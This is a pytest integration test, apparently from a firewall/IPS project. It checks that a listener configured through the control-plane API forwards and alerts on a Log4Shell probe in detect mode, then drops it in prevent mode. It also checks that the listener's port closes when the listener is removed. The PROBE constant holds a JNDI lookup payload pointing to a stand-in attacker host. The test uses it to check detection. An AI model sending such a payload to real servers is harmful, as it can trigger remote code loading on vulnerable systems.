"""Live distribution to the IPS: real API and IPS processes, a real upstream, over sockets.

A tenant-admin key creates a VPC with the IPS on and a listener in detect mode through the API; the
IPS opens the listener within 2 seconds; a Log4Shell probe through it is forwarded (detect); the
key switches the listener to prevent and the next probe is cut within 2 seconds; removing the
listener closes its port. The IPS has no file: everything comes from control-plane snapshots.
"""

from __future__ import annotations

import asyncio
import json
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import aiohttp
import pytest

from shared.runtime.ports import free_port
from shared.runtime.process import stop_process
from tests.control.test_waf_live import Api
from tests.live import create_key, spawn, start_control_plane, start_upstream, wait_ready

PROBE = b"GET /?q=${jndi:ldap://attacker.test/a} HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"
BENIGN = b"GET /hello HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"


@dataclass
class LiveIps:
    api: str
    provider: str
    upstream_port: int
    admin: str
    eve: Path


@pytest.fixture(scope="module")
def live_ips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveIps]:
    d: Path = tmp_path_factory.mktemp("live-ips")
    procs = []
    try:
        up = start_upstream(d, procs)
        api, provider = start_control_plane(d, procs)
        (d / "dataplane.key").write_text(create_key(api, provider, {"id": "ips-fleet", "role": "dataplane"}))
        admin_port = free_port()
        procs.append(spawn(["services.ips", "run", "--control-url", api, "--control-key-file", str(d / "dataplane.key"),
                             "--control-wait", "5", "--admin-port", str(admin_port), "--kafka", "",
                             "--cache-dir", str(d / "cache"), "--spool-dir", str(d / "spool"),
                             "--eve", str(d / "eve.json")], d / "ips.log"))
        wait_ready(f"http://127.0.0.1:{admin_port}/readyz", procs[-1], d / "ips.log")
        yield LiveIps(api, provider, up, f"http://127.0.0.1:{admin_port}", d / "eve.json")
    finally:
        for p in reversed(procs):
            stop_process(p, grace=15)


def _exchange(port: int, request: bytes) -> bytes | None:
    """Send one request through the listener; the bytes answered, or None if the IPS cut the flow."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
            s.sendall(request)
            chunks = []
            while True:
                data = s.recv(65536)
                if not data:
                    break
                chunks.append(data)
            return b"".join(chunks) or None
    except (ConnectionError, OSError):
        return None


async def _until(predicate, timeout: float) -> float:
    started = time.monotonic()
    while time.monotonic() - started < timeout:
        if await asyncio.to_thread(predicate):
            return time.monotonic() - started
        await asyncio.sleep(0.02)
    raise AssertionError(f"condition not met within {timeout} s")


async def test_listener_created_switched_to_prevent_and_removed_live(live_ips: LiveIps) -> None:
    port = free_port()
    async with aiohttp.ClientSession() as session:
        api = Api(session, live_ips.api, live_ips.provider)
        assert (await api("POST", "/v1/tenants", {"id": "t-ips"}))[0] == 201
        _, body, _ = await api("POST", "/v1/tenants/t-ips/keys", {"role": "tenant-admin"})
        admin = body["secret"]
        status, body, _ = await api("POST", "/v1/tenants/t-ips/vpcs", {"id": "vpc-1", "firewall": {"waf": False, "ips": True}},
                                    key=admin)
        assert status == 201, body
        status, body, etag = await api("POST", "/v1/tenants/t-ips/vpcs/vpc-1/listeners",
                                       {"name": "web", "listen": f"127.0.0.1:{port}",
                                        "upstream": f"127.0.0.1:{live_ips.upstream_port}", "mode": "detect",
                                        "rulesets": ["core"], "vars": {"HOME_NET": "[127.0.0.0/8]", "EXTERNAL_NET": "any"}}, key=admin)
        assert status == 201, body
        # the first engine compiles the core pack (cold cache): allow it, then time the switches
        await _until(lambda: (_exchange(port, BENIGN) or b"").startswith(b"HTTP/1.1 200"), timeout=60)
        reply = _exchange(port, PROBE)
        assert reply is not None and reply.startswith(b"HTTP/1.1 200"), "detect mode forwards and alerts"
        records = [json.loads(line) for line in live_ips.eve.read_text().splitlines()]
        assert any(r["alert"]["action"] == "allowed" and "Log4Shell" in r["alert"]["signature"] for r in records), records

        status, body, _ = await api("PATCH", "/v1/tenants/t-ips/vpcs/vpc-1/listeners/web", {"mode": "prevent"},
                                    etag=etag, key=admin)
        assert status == 200 and body["mode"] == "prevent", body
        etag = _
        took = await _until(lambda: _exchange(port, PROBE) is None, timeout=5)
        assert took < 2.0, f"prevent mode took {took:.2f} s to reach the IPS"
        print(f"IPS detect -> prevent: the next probe was cut {took * 1000:.0f} ms after the PATCH returned")
        assert (_exchange(port, BENIGN) or b"").startswith(b"HTTP/1.1 200"), "benign traffic still flows"

        status, _, etag = await api("GET", "/v1/tenants/t-ips/vpcs/vpc-1/listeners/web", key=admin)
        status, body, _ = await api("DELETE", "/v1/tenants/t-ips/vpcs/vpc-1/listeners/web", etag=etag, key=admin)
        assert status in (200, 204), body

        def closed() -> bool:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
                return False
            except OSError:
                return True

        assert await _until(closed, timeout=5) < 2.0
